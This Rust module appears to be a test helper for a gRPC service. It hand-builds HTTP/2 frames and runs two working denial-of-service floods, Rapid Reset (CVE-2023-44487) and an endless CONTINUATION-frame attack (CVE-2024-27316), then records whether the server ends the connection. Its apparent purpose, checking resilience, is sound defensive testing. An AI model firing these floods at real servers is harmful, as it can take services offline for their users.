//! HTTP/2 as somebody writes it who means no good: frames byte by byte.

use std::{net::SocketAddr, time::Duration};

use anyhow::{Context as _, Result};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::timeout,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// How long a flood goes on when nobody stops it.
const FLOOD: Duration = Duration::from_secs(20);
/// How long the end of a connection is waited for.
const ANSWER: Duration = Duration::from_secs(10);
/// Of one frame, RFC 9113 section 4.2.
const FRAME_BYTES_MAX: usize = 16_384;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut bytes = vec![length[1], length[2], length[3], kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header that no table keeps: RFC 7541 section 6.2.2.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        bytes.push(u8::try_from(text.len()).unwrap_or_default());
        bytes.extend(text.as_bytes());
    }
    bytes
}

/// Headers of a call.
fn call() -> Vec<u8> {
    // POST, http.
    let mut block = vec![0x83, 0x86];
    let path = "/landlord.v1.TenantService/GetTenant";
    block.extend([0x04, u8::try_from(path.len()).unwrap_or_default()]);
    block.extend(path.as_bytes());
    block.extend([0x01, 1, b'x']);
    block.extend(literal("content-type", "application/grpc"));
    block.extend(literal("te", "trailers"));
    block
}

/// How a connection ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Ended {
    /// Its peer was sent away, with this error code of RFC 9113 section 7.
    GoAway(u32),
    /// It was closed without a word.
    Closed,
    /// It was not.
    Open,
}

/// Connects, sends what `next` gives again and again, and sees how it ends.
async fn flood(address: SocketAddr, mut next: impl FnMut(u32) -> Vec<u8>) -> Result<Ended> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(PREFACE).await?;
    let (mut reading, mut writing) = stream.into_split();
    let write = async {
        for round in 0.. {
            if writing.write_all(&next(round)).await.is_err() {
                break;
            }
        }
        // What was said before the end is still read.
        std::future::pending::<()>().await;
    };
    let read = async {
        let mut bytes = Vec::new();
        loop {
            if let Some(code) = go_away(&bytes) {
                return Ended::GoAway(code);
            }
            if !matches!(reading.read_buf(&mut bytes).await, Ok(1..)) {
                return Ended::Closed;
            }
        }
    };
    let ended = async {
        tokio::select! {
            ended = read => ended,
            () = write => Ended::Open,
        }
    };
    Ok(timeout(FLOOD, ended).await.unwrap_or(Ended::Open))
}

/// The error code of the last GOAWAY in the whole frames of `bytes`, if it is an error.
fn go_away(mut bytes: &[u8]) -> Option<u32> {
    let mut found = None;
    while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = bytes {
        let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
        let payload = rest.get(..length)?;
        if let (GOAWAY, [_, _, _, _, a, b, c, d, ..]) = (*kind, payload) {
            found = Some(u32::from_be_bytes([*a, *b, *c, *d])).filter(|code| *code != 0);
        }
        if found.is_some() {
            break;
        }
        bytes = &rest[length..];
    }
    found
}

/// Calls that are cancelled in the same breath (CVE-2023-44487).
pub(super) async fn rapid_reset(address: SocketAddr) -> Result<Ended> {
    let mut stream = 1;
    flood(address, move |_| {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &call()));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            stream += 2;
        }
        bytes
    })
    .await
}

/// Headers without an end (CVE-2024-27316).
pub(super) async fn continuation(address: SocketAddr) -> Result<Ended> {
    let filler: Vec<u8> =
        std::iter::repeat_n(literal("x-filler", &"x".repeat(100)), FRAME_BYTES_MAX / 111).flatten().collect();
    flood(address, move |round| match round {
        0 => frame(HEADERS, 0, 1, &call()),
        _ => frame(CONTINUATION, 0, 1, &filler),
    })
    .await
}

/// A connection that has greeted and does nothing, over a stream that is connected.
pub(super) async fn greet<S: tokio::io::AsyncWrite + Unpin>(stream: &mut S) -> Result<()> {
    stream.write_all(PREFACE).await?;
    stream.flush().await.context("the greeting was not taken")
}

/// Whether the peer has closed a connection, as far as it is known without waiting long.
pub(super) async fn is_closed<S: tokio::io::AsyncRead + Unpin>(stream: &mut S) -> bool {
    let mut bytes = [0; 4_096];
    let end = async { while matches!(stream.read(&mut bytes).await, Ok(1..)) {} };
    timeout(ANSWER / 1_000, end).await.is_ok()
}
